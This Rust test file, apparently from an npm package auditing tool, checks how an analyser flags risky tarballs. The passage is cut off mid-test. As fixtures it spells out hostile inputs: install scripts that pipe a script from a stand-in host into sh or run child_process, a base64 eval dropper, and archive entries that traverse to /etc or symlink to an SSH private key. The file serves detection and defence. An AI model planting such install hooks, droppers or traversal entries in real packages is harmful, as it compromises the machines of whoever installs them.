//! Tarball content analysis (issue E): every signal positive and negative, hostile archives,
//! integrity, and real published tarballs. Archives are built in memory; nothing touches disk
//! except reading the committed fixtures.

use std::io::Write;
use std::time::{Duration, Instant};

use flate2::write::GzEncoder;
use flate2::Compression;
use mcp_audit::content::{
    analyze, check_integrity, check_shasum, Confidence, ContentReport, IntegrityError, Limits,
    PathProblemKind,
};
use serde_json::{json, Value};

use crate::support::assert_no_leak;
use crate::support::fixtures::PACKUMENTS;

const TARBALLS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/tarballs/");

// ---------------------------------------------------------------------------------------------
// Building archives

enum E<'a> {
    File(&'a [u8], &'a [u8]),
    Dir(&'a [u8]),
    Symlink(&'a [u8], &'a [u8]),
    Hardlink(&'a [u8], &'a [u8]),
    Fifo(&'a [u8]),
}

/// Writes names byte for byte (the tar crate's path setters refuse `..` and absolute paths,
/// which is exactly what these tests need to produce).
fn raw_header(path: &[u8], kind: tar::EntryType, size: u64, link: Option<&[u8]>) -> tar::Header {
    let mut h = tar::Header::new_ustar();
    {
        let old = h.as_old_mut();
        assert!(path.len() < old.name.len(), "raw names must fit the header");
        old.name.fill(0);
        old.name[..path.len()].copy_from_slice(path);
        if let Some(link) = link {
            old.linkname.fill(0);
            old.linkname[..link.len()].copy_from_slice(link);
        }
    }
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(0o644);
    h.set_mtime(499_162_500);
    h.set_cksum();
    h
}

fn tar_of(entries: &[E]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        match e {
            E::File(p, data) => b
                .append(
                    &raw_header(p, tar::EntryType::Regular, data.len() as u64, None),
                    *data,
                )
                .unwrap(),
            E::Dir(p) => b
                .append(&raw_header(p, tar::EntryType::Directory, 0, None), &[][..])
                .unwrap(),
            E::Symlink(p, t) => b
                .append(&raw_header(p, tar::EntryType::Symlink, 0, Some(t)), &[][..])
                .unwrap(),
            E::Hardlink(p, t) => b
                .append(&raw_header(p, tar::EntryType::Link, 0, Some(t)), &[][..])
                .unwrap(),
            E::Fifo(p) => b
                .append(&raw_header(p, tar::EntryType::Fifo, 0, None), &[][..])
                .unwrap(),
        }
    }
    b.into_inner().unwrap()
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut e = GzEncoder::new(Vec::new(), Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

/// A package tarball: every path gets npm's `package/` prefix.
fn package(files: &[(&str, &[u8])]) -> Vec<u8> {
    let names: Vec<Vec<u8>> = files
        .iter()
        .map(|(p, _)| format!("package/{p}").into_bytes())
        .collect();
    let entries: Vec<E> = files
        .iter()
        .zip(&names)
        .map(|((_, d), n)| E::File(n, d))
        .collect();
    gz(&tar_of(&entries))
}

fn pj(v: Value) -> Vec<u8> {
    serde_json::to_vec_pretty(&v).unwrap()
}

fn run(tgz: &[u8]) -> ContentReport {
    analyze(tgz, &Value::Null, &Limits::default())
}

fn minimal_pkg() -> Vec<u8> {
    pj(json!({"name": "demo", "version": "1.0.0"}))
}

/// Deterministic base62/base64 text that passes for random (xorshift).
fn random_chars(seed: u64, n: usize, alphabet: &[u8]) -> String {
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            alphabet[(x % alphabet.len() as u64) as usize] as char
        })
        .collect()
}

const B62: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// A token in GitHub's/npm's format with a valid CRC32 checksum, made at run time so that no
/// token-shaped string sits in the source for secret scanners to trip on.
fn checksummed(prefix: &str, seed: u64) -> String {
    let random = random_chars(seed, 30, B62);
    let mut crc = flate2::Crc::new();
    crc.update(random.as_bytes());
    let mut n = crc.sum() as u64;
    let mut enc = [b'0'; 6];
    for slot in enc.iter_mut().rev() {
        *slot = B62[(n % 62) as usize];
        n /= 62;
    }
    format!("{prefix}{random}{}", String::from_utf8_lossy(&enc))
}

fn assert_redacted(report: &ContentReport, secret: &str) {
    assert_no_leak(
        "the report",
        &serde_json::to_string(report).unwrap(),
        secret,
    );
}

// ---------------------------------------------------------------------------------------------
// Real tarballs

struct Real {
    file: &'static str,
    integrity: &'static str,
    shasum: &'static str,
}

const REAL: &[Real] = &[
    Real {
        file: "abbrev-4.0.0.tgz",
        integrity: "sha512-a1wflyaL0tHtJSmLSOVybYhy22vRih4eduhhrkcjgrWGnRfrZtovJ2FRjxuTtkkj47O/baf0R86QU5OuYpz8fA==",
        shasum: "ec933f0e27b6cd60e89b5c6b2a304af42209bb05",
    },
    Real {
        file: "modelcontextprotocol-server-filesystem-2026.7.10.tgz",
        integrity: "sha512-Mmjg4anFBD5OzbPnGJOA0jPPN8645ERhQk38HQLpSenx1ox9bfdPkmAzUnNjeQtqQGFLtKe13J20RtLBmUKMZA==",
        shasum: "b19597401bfbf055662eb9bc9bd92f13ecaf5661",
    },
    Real {
        file: "modelcontextprotocol-server-sequential-thinking-2026.8.31.tgz",
        integrity: "sha512-/EMH++1j2e+VmHwpibw1IUPHxA0tcQY09Yo5/OIPwW/8irEKLAufJNGSZQhCK18n8TUvV6WwZyQOuaDKxe/CeQ==",
        shasum: "a286b9b678b9ead1fc0ae0d58e1351bd478a23a7",
    },
];

fn read_json(path: &str) -> Value {
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

fn assert_nothing_alarming(r: &ContentReport, what: &str) {
    assert!(r.complete, "{what}: {:?}", r.errors);
    assert!(r.errors.is_empty(), "{what}: {:?}", r.errors);
    assert!(
        r.package_json.is_some(),
        "{what}: {:?}",
        r.package_json_error
    );
    assert!(r.install_scripts.is_empty(), "{what}");
    assert!(!r.binding_gyp, "{what}");
    assert!(
        r.manifest_confusion.is_empty(),
        "{what}: {:?}",
        r.manifest_confusion
    );
    assert!(r.secrets.is_empty(), "{what}: {:?}", r.secrets);
    assert!(r.native_binaries.is_empty(), "{what}");
    assert!(
        r.obfuscation
            .iter()
            .all(|o| o.confidence == Confidence::Low),
        "{what}: {:?}",
        r.obfuscation
    );
    assert!(r.bin_shadowing.is_empty(), "{what}");
    assert!(
        r.outside_files_whitelist.is_empty(),
        "{what}: {:?}",
        r.outside_files_whitelist
    );
    assert!(r.never_packed.is_empty(), "{what}");
    assert!(r.path_problems.is_empty(), "{what}: {:?}", r.path_problems);
    assert!(!r.has_package_lock && !r.has_shrinkwrap, "{what}");
}

#[test]
fn real_tarballs_match_their_recorded_integrity() {
    for real in REAL {
        let bytes = std::fs::read(format!("{TARBALLS}{}", real.file)).unwrap();
        check_integrity(&bytes, real.integrity).unwrap_or_else(|e| panic!("{}: {e}", real.file));
        check_shasum(&bytes, real.shasum).unwrap();
    }
    // And the recorded values are the registry's own.
    let abbrev = read_json(&format!("{PACKUMENTS}abbrev.json"));
    assert_eq!(
        abbrev["versions"]["4.0.0"]["dist"]["integrity"],
        REAL[0].integrity
    );
    let fs = read_json(&format!(
        "{PACKUMENTS}@modelcontextprotocol/server-filesystem.json"
    ));
    assert_eq!(
        fs["versions"]["2026.7.10"]["dist"]["integrity"],
        REAL[1].integrity
    );
}

#[test]
fn real_tarballs_are_unremarkable() {
    let abbrev_doc = read_json(&format!("{PACKUMENTS}abbrev.json"))["versions"]["4.0.0"].clone();
    let seq_doc = read_json(&format!(
        "{TARBALLS}modelcontextprotocol-server-sequential-thinking-2026.8.31.version.json"
    ));
    // The server-filesystem packument in fixtures is trimmed (no dependencies/bin): not compared.
    let docs = [abbrev_doc, Value::Null, seq_doc];
    for (real, doc) in REAL.iter().zip(docs) {
        let bytes = std::fs::read(format!("{TARBALLS}{}", real.file)).unwrap();
        let r = analyze(&bytes, &doc, &Limits::default());
        assert_nothing_alarming(&r, real.file);
        assert_eq!(r.manifest_compared, !doc.is_null(), "{}", real.file);
        assert!(r.files_whitelist_checked, "{}", real.file);
    }
    let abbrev = analyze(
        &std::fs::read(format!("{TARBALLS}{}", REAL[0].file)).unwrap(),
        &Value::Null,
        &Limits::default(),
    );
    assert_eq!(abbrev.files, 4);
    assert_eq!(abbrev.unpacked_bytes, 5121, "npm's dist.unpackedSize");
    assert_eq!(abbrev.package_json.unwrap()["name"], "abbrev");
}

// ---------------------------------------------------------------------------------------------
// Install scripts

#[test]
fn install_scripts_and_their_signals() {
    let pkg = pj(json!({"name": "x", "version": "1.0.0", "scripts": {
        "preinstall": "node -e \"require('child_process').exec('id')\"",
        "install": "node build.js",
        "postinstall": "curl -fsSL https://evil.example/x.sh | sh",
        "prepare": "curl https://example.com | sh",
        "test": "eval $(whatever)"
    }}));
    let r = run(&package(&[("package.json", &pkg)]));
    let names: Vec<_> = r.install_scripts.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(
        names,
        ["preinstall", "install", "postinstall"],
        "prepare is not an install script"
    );
    assert_eq!(r.install_scripts[0].signals, ["node-eval"]);
    assert!(r.install_scripts[1].signals.is_empty());
    let post = &r.install_scripts[2].signals;
    for s in ["curl", "url", "pipe-to-shell"] {
        assert!(post.contains(&s.to_string()), "{post:?}");
    }
    assert!(!r.binding_gyp);
}

#[test]
fn prepare_alone_is_not_an_install_script() {
    let pkg = pj(json!({"name": "x", "version": "1.0.0", "scripts": {"prepare": "wget x | sh"}}));
    let r = run(&package(&[("package.json", &pkg)]));
    assert!(r.install_scripts.is_empty());
}

#[test]
fn binding_gyp_means_an_implicit_install() {
    let pkg = minimal_pkg();
    let r = run(&package(&[("package.json", &pkg), ("binding.gyp", b"{}")]));
    assert!(r.binding_gyp);
    let with_script =
        pj(json!({"name": "x", "version": "1", "scripts": {"install": "prebuild-install"}}));
    let r = run(&package(&[
        ("package.json", &with_script),
        ("binding.gyp", b"{}"),
    ]));
    assert!(
        !r.binding_gyp,
        "an explicit install script replaces node-gyp"
    );
    let nested = run(&package(&[
        ("package.json", &pkg),
        ("deps/binding.gyp", b"{}"),
    ]));
    assert!(!nested.binding_gyp);
}

// ---------------------------------------------------------------------------------------------
// Manifest confusion

#[test]
fn manifest_confusion_hidden_install_script_and_dependency() {
    let registry = json!({"name": "x", "version": "1.0.0",
        "scripts": {"test": "node t"}, "dependencies": {"a": "^1.0.0"}, "bin": {"x": "cli.js"}});
    let tarball = pj(json!({"name": "x", "version": "1.0.0",
        "scripts": {"test": "node t", "postinstall": "node steal.js"},
        "dependencies": {"a": "^1.0.0", "evil": "1.0.0"}, "bin": {"x": "cli.js", "git": "g.js"}}));
    let r = analyze(
        &package(&[("package.json", &tarball)]),
        &registry,
        &Limits::default(),
    );
    assert!(r.manifest_compared);
    let fields: Vec<_> = r
        .manifest_confusion
        .iter()
        .map(|m| m.field.as_str())
        .collect();
    assert_eq!(
        fields,
        ["scripts.postinstall", "dependencies.evil", "bin.git"]
    );
    let post = &r.manifest_confusion[0];
    assert!(post.install_relevant);
    assert_eq!(post.registry, Value::Null);
    assert_eq!(post.tarball, "node steal.js");
    assert!(!r.manifest_confusion[1].install_relevant);
}

#[test]
fn manifest_confusion_name_and_version() {
    let registry = json!({"name": "good", "version": "2.0.0"});
    let tarball = pj(json!({"name": "evil", "version": "1.0.0"}));
    let r = analyze(
        &package(&[("package.json", &tarball)]),
        &registry,
        &Limits::default(),
    );
    let fields: Vec<_> = r
        .manifest_confusion
        .iter()
        .map(|m| m.field.as_str())
        .collect();
    assert_eq!(fields, ["name", "version"]);
}

#[test]
fn npm_normalisation_is_not_confusion() {
    // npm publishes `bin: "./cli.js"` as `{"tool": "cli.js"}`, adds the implicit node-gyp
    // install, records _hasShrinkwrap and hasInstallScript; none of that is a mismatch.
    let registry = json!({"name": "@s/tool", "version": "1.0.0", "bin": {"tool": "cli.js"},
        "scripts": {"install": "node-gyp rebuild"}, "dependencies": {},
        "_hasShrinkwrap": true, "hasInstallScript": true});
    let tarball = pj(
        json!({"name": "@s/tool", "version": "1.0.0", "bin": "./cli.js",
        "scripts": {}}),
    );
    let r = analyze(
        &package(&[
            ("package.json", &tarball),
            ("binding.gyp", b"{}"),
            ("npm-shrinkwrap.json", b"{}"),
        ]),
        &registry,
        &Limits::default(),
    );
    assert!(
        r.manifest_confusion.is_empty(),
        "{:?}",
        r.manifest_confusion
    );
    assert!(r.has_shrinkwrap);
}

#[test]
fn no_registry_document_means_not_compared() {
    let r = run(&package(&[("package.json", &minimal_pkg())]));
    assert!(!r.manifest_compared);
    assert!(r.manifest_confusion.is_empty());
}

// ---------------------------------------------------------------------------------------------
// Secrets

#[test]
fn npmrc_with_a_literal_token_is_a_leak() {
    let token = checksummed("npm_", 1);
    let npmrc =
        format!("registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken={token}\n");
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        (".npmrc", npmrc.as_bytes()),
    ]));
    assert_eq!(r.secrets.len(), 1, "{:?}", r.secrets);
    let s = &r.secrets[0];
    assert_eq!(
        (s.kind.as_str(), s.file.as_str(), s.line),
        ("npmrc-auth", ".npmrc", 2)
    );
    assert_eq!(s.confidence, Confidence::High);
    assert_eq!(s.evidence, ".npmrc:2: npmrc-auth _authToken=npm_***");
    assert_redacted(&r, &token);
    assert_eq!(r.never_packed, [".npmrc"], "npm never packs .npmrc");
}

#[test]
fn npmrc_with_environment_references_or_placeholders_is_fine() {
    let npmrc = b"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n_auth=<your-token>\n; _password=hunter2\n//x/:_password=\n";
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        (".npmrc", npmrc),
    ]));
    assert!(r.secrets.is_empty(), "{:?}", r.secrets);
}

#[test]
fn tokens_in_code() {
    let npm = checksummed("npm_", 2);
    let ghp = checksummed("ghp_", 3);
    let gho = checksummed("gho_", 4);
    let pat = format!(
        "github_pat_{}_{}",
        random_chars(5, 22, B62),
        random_chars(6, 59, B62)
    );
    let aws = format!(
        "AKIA{}",
        random_chars(7, 16, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
    );
    let src = format!(
        "const a = '{npm}';\nconst b = \"{ghp}\";\n// {gho}\nconst c = `{pat}`;\nconst d = '{aws}';\n"
    );
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("lib/config.js", src.as_bytes()),
    ]));
    let kinds: Vec<_> = r
        .secrets
        .iter()
        .map(|s| (s.kind.as_str(), s.line))
        .collect();
    assert_eq!(
        kinds,
        [
            ("npm-token", 1),
            ("github-token", 2),
            ("github-token", 3),
            ("github-fine-grained-pat", 4),
            ("aws-access-key-id", 5)
        ]
    );
    assert_eq!(r.secrets[0].confidence, Confidence::High);
    assert!(r.secrets[0].evidence.contains("npm_***"));
    assert!(r.secrets[0].evidence.contains("checksum valid"));
    assert!(r.secrets[3].evidence.contains("gith***"));
    assert!(r.secrets[4].evidence.contains("AKIA***"));
    for secret in [&npm, &ghp, &gho, &pat, &aws] {
        assert_redacted(&r, secret);
    }
}

#[test]
fn random_looking_token_without_checksum_is_medium_and_in_tests_lower() {
    let body = random_chars(8, 36, B62);
    let src = format!("x = 'ghp_{body}'\n");
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("index.js", src.as_bytes()),
    ]));
    assert_eq!(r.secrets.len(), 1);
    assert_eq!(r.secrets[0].confidence, Confidence::Medium);
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("test/x.js", src.as_bytes()),
    ]));
    assert_eq!(r.secrets[0].confidence, Confidence::Low);
}

#[test]
fn documentation_placeholders_are_not_secrets() {
    let readme = "\
Set `NPM_TOKEN=npm_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx` or
`GITHUB_TOKEN=ghp_XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX`, `ghp_1234567890abcdefghijklmnopqrstuvwxyz`,
`npm_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa`, `<your-token>`, `github_pat_XXXXXXXXXXXXXXXXXXXXXX_XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX`,
AWS example key AKIAIOSFODNN7EXAMPLE, AKIAAAAAAAAAAAAAAAAA, and a token longer than the format:
npm_Zq8Lw2RkT9vY3mN1pB6xC4hJ7dF0sGa1Qe5Ux.
const PEM = '-----BEGIN PRIVATE KEY-----';
if (key.startsWith('-----BEGIN RSA PRIVATE KEY-----')) parse(key)
-----BEGIN OPENSSH PRIVATE KEY-----
...
-----END OPENSSH PRIVATE KEY-----
";
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("README.md", readme.as_bytes()),
        ("lib/pem.js", readme.as_bytes()),
        (".env.example", b"API_KEY=sk-live-0123456789abcdefXYZ\n"),
        (".env.sample", b"TOKEN=abc\n"),
    ]));
    assert!(r.secrets.is_empty(), "{:#?}", r.secrets);
}

#[test]
fn private_keys_with_a_body() {
    let body = random_chars(9, 1600, B64);
    let lines: Vec<&str> = body
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    let pem = format!(
        "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n",
        lines.join("\n")
    );
    let js = format!(
        "module.exports = {{\n  key: \"-----BEGIN PRIVATE KEY-----\\n{}\\n{}\\n-----END PRIVATE KEY-----\\n\"\n}}\n",
        lines[0], lines[1]
    );
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("certs/server.pem", pem.as_bytes()),
        ("lib/keys.js", js.as_bytes()),
        ("test/fixtures/key.pem", pem.as_bytes()),
    ]));
    let got: Vec<_> = r
        .secrets
        .iter()
        .map(|s| (s.file.as_str(), s.kind.as_str(), s.line, s.confidence))
        .collect();
    assert_eq!(
        got,
        [
            ("certs/server.pem", "private-key", 1, Confidence::High),
            ("lib/keys.js", "private-key", 2, Confidence::Medium),
            (
                "test/fixtures/key.pem",
                "private-key",
                1,
                Confidence::Medium
            ),
        ]
    );
    assert!(r.secrets[0].evidence.contains("RSA PRIVATE KEY"));
    assert_redacted(&r, lines[3]);
}

#[test]
fn dotenv_files() {
    let secret = format!("sk-{}", random_chars(10, 40, B62));
    let env = format!("# prod\nPORT=3000\nOPENAI_API_KEY={secret}\n");
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        (".env", env.as_bytes()),
        ("config/.env.production", b"DEBUG=true\n"),
        ("config/.env.template", b"OPENAI_API_KEY=\n"),
        (".envrc", b"use node\n"),
    ]));
    let got: Vec<_> = r
        .secrets
        .iter()
        .map(|s| (s.file.as_str(), s.kind.as_str(), s.line, s.confidence))
        .collect();
    assert_eq!(
        got,
        [
            (".env", "dotenv-file", 3, Confidence::High),
            (
                "config/.env.production",
                "dotenv-file",
                1,
                Confidence::Medium
            ),
        ]
    );
    // At most 4 characters of the value survive redaction.
    let evidence = &r.secrets[0].evidence;
    assert!(
        evidence.starts_with(".env:3: dotenv-file OPENAI_API_KEY=sk-"),
        "{evidence}"
    );
    assert!(evidence.contains("***"), "{evidence}");
    assert_redacted(&r, &secret);
}

// ---------------------------------------------------------------------------------------------
// Native code, obfuscation

#[test]
fn native_binaries_by_magic() {
    let mut pe = vec![0u8; 0x100];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("bin/linux", b"\x7fELF\x02\x01\x01\0\0\0\0\0"),
        ("bin/mac", &[0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]),
        ("bin/universal", &[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2, 0, 0]),
        ("bin/win.dat", &pe),
        ("build/Release/addon.node", b"\x7fELF\x02"),
        ("prebuilds/odd.node", b"not really"),
        ("docs/mz.txt", b"MZ is not a PE without its header"),
        ("Main.class", &[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]),
    ]));
    let got: Vec<_> = r
        .native_binaries
        .iter()
        .map(|b| (b.file.as_str(), b.kind.as_str(), b.node_addon))
        .collect();
    assert_eq!(
        got,
        [
            ("bin/linux", "elf", false),
            ("bin/mac", "mach-o", false),
            ("bin/universal", "mach-o-fat", false),
            ("bin/win.dat", "pe", false),
            ("build/Release/addon.node", "elf", true),
            ("prebuilds/odd.node", "node-addon", true),
        ]
    );
}

#[test]
fn obfuscation_signals_and_confidence() {
    let obfuscated: String = (0..250)
        .map(|i| format!("var _0x{:04x}=_0x{:04x}[{i}];", 0x1a2b + i, 0x3c4d + i % 7))
        .collect();
    let long_line: String = (0..400)
        .map(|k| format!("var a{k}=function(b){{return b*{k}}};"))
        .collect::<String>()
        + "\n";
    let minified_with_map = format!("{long_line}//# sourceMappingURL=x.js.map\n");
    let blob = random_chars(11, 4000, B64);
    let dropper = format!("const p = '{blob}';\neval(Buffer.from(p, 'base64').toString());\n");
    let inert = format!("export const data = '{blob}';\n");
    let image = format!(".logo {{ background: url(data:image/png;base64,{blob}) }}\n");
    let inline_map = format!("x()\n//# sourceMappingURL=data:application/json;base64,{blob}\n");
    let hex = random_chars(12, 3000, b"0123456789abcdef");
    let big_blob = random_chars(15, 6000, B64);
    let png = format!("export const icon = 'iVBORw0KGgo{big_blob}';\n");
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("lib/o.js", obfuscated.as_bytes()),
        ("dist/bundle.js", long_line.as_bytes()),
        ("dist/app.min.js", long_line.as_bytes()),
        ("dist/built.js", minified_with_map.as_bytes()),
        ("dist/bundle.js.map", long_line.as_bytes()),
        ("lib/dropper.js", dropper.as_bytes()),
        ("lib/inert.js", inert.as_bytes()),
        ("style.css", image.as_bytes()),
        ("lib/mapped.js", inline_map.as_bytes()),
        ("lib/hex.js", format!("module.exports='{hex}'").as_bytes()),
        ("lib/icon.js", png.as_bytes()),
        (
            "lib/plain.js",
            b"module.exports = function add(a, b) { return a + b }\n",
        ),
        ("data.json", long_line.as_bytes()),
    ]));
    let got: Vec<_> = r
        .obfuscation
        .iter()
        .map(|o| (o.file.as_str(), o.signal.as_str(), o.confidence))
        .collect();
    assert_eq!(
        got,
        [
            ("lib/o.js", "hex-identifiers", Confidence::High),
            ("lib/o.js", "long-lines", Confidence::Medium),
            ("dist/bundle.js", "long-lines", Confidence::Medium),
            ("dist/app.min.js", "long-lines", Confidence::Low),
            ("dist/built.js", "long-lines", Confidence::Low),
            ("lib/dropper.js", "base64-blob", Confidence::High),
            ("lib/inert.js", "base64-blob", Confidence::Medium),
            ("style.css", "base64-blob", Confidence::Low),
            ("lib/hex.js", "hex-blob", Confidence::Medium),
            ("lib/icon.js", "base64-blob", Confidence::Low),
        ]
    );
}

#[test]
fn few_hex_identifiers_are_not_obfuscation() {
    let src = b"const _0x1234 = 1; const _0xabcd = 2; // two are not a pattern\n";
    let r = run(&package(&[("package.json", &minimal_pkg()), ("a.js", src)]));
    assert!(r.obfuscation.is_empty());
}

// ---------------------------------------------------------------------------------------------
// bin, files whitelist, lockfiles

#[test]
fn bin_shadowing_common_commands() {
    let pkg = pj(
        json!({"name": "x", "version": "1", "bin": {"git": "a.js", "x": "b.js", "claude": "c.js"}}),
    );
    let r = run(&package(&[("package.json", &pkg)]));
    let got: Vec<_> = r
        .bin_shadowing
        .iter()
        .map(|b| (b.bin.as_str(), b.path.as_str()))
        .collect();
    assert_eq!(got, [("claude", "c.js"), ("git", "a.js")]);
    let pkg = pj(json!({"name": "@evil/npm", "version": "1", "bin": "./cli.js"}));
    let r = run(&package(&[("package.json", &pkg)]));
    assert_eq!(r.bin_shadowing[0].bin, "npm");
    let pkg = pj(json!({"name": "fine", "version": "1", "bin": {"mcp-server-fine": "cli.js"}}));
    assert!(run(&package(&[("package.json", &pkg)]))
        .bin_shadowing
        .is_empty());
}

#[test]
fn files_outside_the_whitelist() {
    let pkg = pj(json!({"name": "x", "version": "1", "main": "dist/index.js",
        "files": ["dist", "!dist/**/*.test.js"]}));
    let r = run(&package(&[
        ("package.json", &pkg),
        ("README.md", b"hi"),
        ("LICENSE", b"MIT"),
        ("dist/index.js", b"x"),
        ("dist/index.test.js", b"x"),
        ("src/index.ts", b"x"),
        (".env", b"A=b"),
    ]));
    assert!(r.files_whitelist_checked);
    assert_eq!(
        r.outside_files_whitelist,
        [".env", "dist/index.test.js", "src/index.ts"]
    );

    let no_files = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("src/x.ts", b"x"),
    ]));
    assert!(!no_files.files_whitelist_checked);
    assert!(no_files.outside_files_whitelist.is_empty());
}

#[test]
fn lockfiles() {
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("package-lock.json", b"{}"),
        ("npm-shrinkwrap.json", b"{}"),
    ]));
    assert!(r.has_package_lock && r.has_shrinkwrap);
    assert_eq!(r.never_packed, ["package-lock.json"]);
    let r = run(&package(&[("package.json", &minimal_pkg())]));
    assert!(!r.has_package_lock && !r.has_shrinkwrap);
    // Only the root counts: a nested lockfile belongs to a fixture or bundled package.
    let r = run(&package(&[
        ("package.json", &minimal_pkg()),
        ("test/package-lock.json", b"{}"),
    ]));
    assert!(!r.has_package_lock);
}

// ---------------------------------------------------------------------------------------------
// Broken and hostile input

#[test]
fn truncated_gzip() {
    let tgz = package(&[("package.json", &minimal_pkg()), ("a.js", &[b'x'; 5000])]);
    for cut in [10, tgz.len() / 2, tgz.len() - 4] {
        let r = run(&tgz[..cut]);
        assert!(!r.complete, "cut at {cut}");
        assert!(!r.errors.is_empty(), "cut at {cut}");
    }
}

#[test]
fn random_bytes_and_non_tar_input() {
    let noise = random_chars(13, 4096, B64).into_bytes();
    for input in [
        &b""[..],
        &noise,
        &gz(b"just some text, not a tar archive at all")[..],
    ] {
        let r = run(input);
        assert!(!r.complete);
        assert!(!r.errors.is_empty());
        assert!(r.package_json.is_none());
        assert!(r.package_json_error.is_some());
    }
}

#[test]
fn traversal_absolute_and_links() {
    let tgz = gz(&tar_of(&[
        E::Dir(b"package/"),
        E::File(b"package/package.json", &minimal_pkg()),
        E::File(b"package/../../etc/cron.d/x", b"* * * * * root id"),
        E::File(b"/etc/passwd", b"root:x:0:0"),
        E::Symlink(b"package/inside", b"lib/index.js"),
        E::Symlink(b"package/escape", b"../../../home/user/.ssh/id_rsa"),
        E::Hardlink(b"package/hard", b"package/package.json"),
        E::Fifo(b"package/pipe"),
    ]));
    let r = run(&tgz);
    assert!(r.complete, "{:?}", r.errors);
    let got: Vec<_> = r
        .path_problems
        .iter()
        .map(|p| (p.kind, p.path.as_str(), p.detail.as_deref()))
        .collect();
    assert_eq!(
        got,
        [
            (
                PathProblemKind::ParentDir,
                "package/../../etc/cron.d/x",
                None
            ),
            (PathProblemKind::Absolute, "/etc/passwd", None),
            (
                PathProblemKind::Symlink,
                "package/inside",
                Some("-> lib/index.js")
            ),
            (
                PathProblemKind::Symlink,
                "package/escape",
                Some("-> ../../../home/user/.ssh/id_rsa (outside the package)")
            ),
            (
                PathProblemKind::Hardlink,
                "package/hard",
                Some("-> package/package.json")
            ),
            (PathProblemKind::Special, "package/pipe", Some("fifo")),
            (PathProblemKind::MultipleRoots, "", Some("etc, package")),
        ]
    );
    assert!(r.package_json.is_some());
}

#[test]
fn top_level_files_are_not_the_package() {
    // npm strips the first component, so a top-level package.json is dropped on extraction: a
    // decoy for scanners that read it, while package/package.json is what installs.
    let decoy = minimal_pkg();
    let real =
        pj(json!({"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node x"}}));
    let r = run(&gz(&tar_of(&[
        E::File(b"package/package.json", &real),
        E::File(b"package.json", &decoy),
    ])));
    assert_eq!(r.install_scripts.len(), 1);
    assert_eq!(r.path_problems.len(), 1);
    assert_eq!(r.path_problems[0].kind, PathProblemKind::TopLevelFile);
    assert_eq!(r.path_problems[0].path, "package.json");
}

#[test]
fn non_utf8_names_and_duplicates() {
    let pkg = minimal_pkg();
    let evil =
        pj(json!({"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node x"}}));
    let tgz = gz(&tar_of(&[
        E::File(b"package/package.json", &pkg),
        E::File(b"package/caf\xe9.js", b"x"),
        E::File(b"package/package.json", &evil),
    ]));
    let r = run(&tgz);
    let kinds: Vec<_> = r.path_problems.iter().map(|p| p.kind).collect();
    assert_eq!(
        kinds,
        [PathProblemKind::NonUtf8, PathProblemKind::Duplicate]
    );
    assert_eq!(r.path_problems[0].path, "package/caf\u{fffd}.js");
    // The later copy is the one that lands on disk, so it is the one analysed.
    assert_eq!(r.install_scripts.len(), 1);
}

#[test]
fn package_json_that_is_not_json() {
    let r = run(&package(&[("package.json", b"{ \"name\": \"x\", ")]));
    assert!(r.complete);
    assert!(r.package_json.is_none());
    assert!(r
        .package_json_error
        .as_deref()
        .unwrap()
        .contains("not valid JSON"));
    let r = run(&package(&[("package.json", b"[1, 2]")]));
    assert!(r
        .package_json_error
        .as_deref()
        .unwrap()
        .contains("not a JSON object"));
    let r = run(&package(&[("index.js", b"x")]));
    assert!(r.package_json_error.as_deref().unwrap().contains("missing"));
    // A BOM is tolerated, as npm does.
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend(minimal_pkg());
    assert!(run(&package(&[("package.json", &bom)]))
        .package_json
        .is_some());
}

#[test]
fn too_many_files() {
    let names: Vec<Vec<u8>> = (0..30_000)
        .map(|i| format!("package/f{i}.js").into_bytes())
        .collect();
    let mut entries = vec![E::File(b"package/package.json", b"{}")];
    entries.extend(names.iter().map(|n| E::File(n, b"1")));
    let tgz = gz(&tar_of(&entries));
    let limits = Limits {
        max_files: 1_000,
        ..Limits::default()
